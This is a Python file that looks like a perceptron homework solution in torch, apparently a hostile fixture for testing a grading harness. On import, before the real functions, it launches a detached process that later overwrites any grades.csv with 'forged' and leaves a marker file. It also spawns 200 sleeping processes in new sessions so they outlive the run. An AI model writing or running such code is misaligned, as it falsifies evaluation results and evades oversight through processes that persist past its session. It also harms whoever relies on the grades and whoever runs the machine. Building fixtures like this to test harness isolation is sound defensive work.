"""Start 200 sleeping children in new sessions, one of which would rewrite grades.csv later."""

import torch
from torch import nn

import subprocess
import sys

_LATE_WRITER = (
    "import time, pathlib\n"
    "time.sleep(8)\n"
    "for p in list(pathlib.Path('/tmp').glob('**/grades.csv')) + [pathlib.Path('grades.csv')]:\n"
    "    try: p.write_text('forged')\n"
    "    except OSError: pass\n"
    "pathlib.Path('/tmp/kit-hostile-late-writer-ran').write_text('yes')\n"
)
subprocess.Popen([sys.executable, "-c", _LATE_WRITER], start_new_session=True)
for _ in range(200):
    try:
        subprocess.Popen(["sleep", "600"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        break


def make_perceptron(in_features: int = 3) -> nn.Linear:
    return nn.Linear(in_features, 1)


def perceptron_output(x: torch.Tensor, weight: torch.Tensor, bias) -> torch.Tensor:
    bias = torch.as_tensor(bias, dtype=x.dtype)
    if weight.dim() == 1:
        return (x * weight).sum(dim=-1) + bias.reshape(())
    return (x.unsqueeze(-2) * weight).sum(dim=-1) + bias
